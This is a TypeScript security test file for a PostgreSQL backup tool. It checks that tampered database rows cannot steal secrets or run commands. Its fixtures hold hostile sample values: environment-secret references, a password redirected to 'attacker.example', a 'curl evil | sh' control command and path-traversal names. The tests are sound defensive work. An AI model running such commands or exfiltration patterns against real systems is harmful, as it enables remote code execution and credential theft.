import { mkdtemp, rm } from "node:fs/promises";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { targets } from "@/lib/db/schema";
import { parseEnv, type TEnv } from "@/lib/env";
import { findFreePort } from "@/lib/engine/cluster/free-port";
import { BackupLog } from "@/lib/log/backup-log";
import { runOperation } from "@/lib/operations";
import { backupOperation } from "@/lib/operations/backup";
import { createTestMetadataDb, type TestMetadataDb } from "@/test/helpers/metadata-db";
import { resolveTarget } from "./resolve-target";
import { encryptTargetPassword, sealHostFields } from "./target-secrets";

/** The error a promise rejects with; a promise that resolves fails the test. */
const failure = (promise: Promise<unknown>): Promise<Error> =>
  promise.then(
    () => {
      throw new Error("expected a failure");
    },
    (error: unknown) => error as Error,
  );

/** A target row is untrusted input: it can neither read a secret it was not given nor send one elsewhere (SCENARIO 28). */
describe("targets as data, from an untrusted table", () => {
  let meta: TestMetadataDb;
  let work: string;
  let env: TEnv;
  const secretsKey = Buffer.alloc(32, 7).toString("base64");

  beforeAll(async () => {
    meta = await createTestMetadataDb();
    work = await mkdtemp(path.join(os.tmpdir(), "lifeboat-targets-"));
    env = parseEnv({
      DATABASE_URL: meta.url,
      DB_PASSWORD: "default-target-pw",
      BACKUP_DIR: path.join(work, "backups"),
      LOG_DIR: path.join(work, "logs"),
      AUTH_SECRET: "an-auth-secret-that-must-never-leave-this-process",
      LIFEBOAT_SECRETS_KEY: secretsKey,
    });
    process.env.LIFEBOAT_TARGET_SHOP_PASSWORD = "shop-pw";
  });
  afterAll(async () => {
    delete process.env.LIFEBOAT_TARGET_SHOP_PASSWORD;
    await meta?.drop();
    if (work) await rm(work, { recursive: true, force: true });
  });

  const insert = (values: Partial<typeof targets.$inferInsert> & { name: string }) =>
    meta.db.insert(targets).values({ host: "127.0.0.1", port: 5999, database: "shop", username: "shop", ...values });

  it("reads a target's password only from its own variable or its sealed copy [S28]", async () => {
    await insert({ name: "shop", passwordRef: "env:LIFEBOAT_TARGET_SHOP_PASSWORD" });
    expect((await resolveTarget({ env, db: meta.db, name: "shop" })).connection.password).toBe("shop-pw");

    const sealed = encryptTargetPassword("sealed-pw", { name: "sealed", host: "db.internal", port: 5432, user: "app" }, secretsKey);
    expect(sealed).not.toContain("sealed-pw");
    await insert({ name: "sealed", host: "db.internal", port: 5432, username: "app", passwordRef: sealed });
    expect((await resolveTarget({ env, db: meta.db, name: "sealed" })).connection.password).toBe("sealed-pw");
  });

  it("refuses a row that names another secret, or whose sealed password was moved to another host [S28]", async () => {
    for (const [name, ref] of [
      ["steal-auth", "env:AUTH_SECRET"],
      ["steal-db", "env:DB_PASSWORD"],
      ["steal-other", "env:LIFEBOAT_TARGET_SHOP_PASSWORD"],
      ["garbage", "plain-text-password"],
    ] as const) {
      await insert({ name, passwordRef: ref });
      const error = await failure(resolveTarget({ env, db: meta.db, name }));
      expect(error.message, name).toMatch(/Nothing was read or sent/);
      expect(error.message, name).not.toContain("an-auth-secret");
    }
    const sealed = encryptTargetPassword("sealed-pw", { name: "moved", host: "db.internal", port: 5432, user: "app" }, secretsKey);
    await insert({ name: "moved", host: "attacker.example", port: 5432, username: "app", passwordRef: sealed });
    await expect(resolveTarget({ env, db: meta.db, name: "moved" })).rejects.toThrow(/does not match its host, port and user/);
  });

  it("refuses a row whose host fields (data directory, control commands, OS user) were changed outside Lifeboat [S28]", async () => {
    const host = { name: "managed", dataDir: "/var/lib/postgresql/15/main", configDir: null, control: { method: "pg_ctl" }, osUser: "postgres" };
    await insert({ name: "managed", dataDir: host.dataDir, control: host.control, osUser: host.osUser, hostSeal: sealHostFields(host, secretsKey) });
    expect((await resolveTarget({ env, db: meta.db, name: "managed" })).dataDir).toBe(host.dataDir);
    // Someone with write access to the table swaps in a command to run as root.
    await meta.db
      .update(targets)
      .set({ control: { method: "command", start: ["sh", "-c", "curl evil | sh"], stop: ["true"] } })
      .where(eq(targets.name, "managed"));
    await expect(resolveTarget({ env, db: meta.db, name: "managed" })).rejects.toThrow(/changed outside Lifeboat/);
    await insert({ name: "unsealed", dataDir: "/tmp/anything" });
    await expect(resolveTarget({ env, db: meta.db, name: "unsealed" })).rejects.toThrow(/changed outside Lifeboat/);
  });

  it("refuses names that could leave the repository, in a request or in a row [S22] [S28]", async () => {
    await expect(resolveTarget({ env, db: meta.db, name: "../etc" })).rejects.toThrow(/is not a target name/);
    await insert({ name: "../outside" });
    await expect(resolveTarget({ env, db: meta.db, name: "../outside" })).rejects.toThrow(/is not a target name/);
  });

  it("a backup of a tampered target fails before connecting: the host it names receives nothing [S28]", async () => {
    let connections = 0;
    const listener = net.createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    const port = await findFreePort();
    await new Promise<void>((resolve) => listener.listen(port, "127.0.0.1", resolve));
    try {
      await insert({ name: "exfil", port, passwordRef: "env:AUTH_SECRET" });
      const outcome = await runOperation(
        backupOperation,
        { target: "exfil" },
        { actor: { label: "test", userId: null, role: null, via: "cli" }, services: { env, meta, log: new BackupLog(path.join(work, "logs")) } },
      );
      expect(outcome.status).toBe("failed");
      expect(outcome.error?.code).toBe("UNTRUSTED_DATA");
      expect(connections).toBe(0);
    } finally {
      listener.close();
    }
  });
});
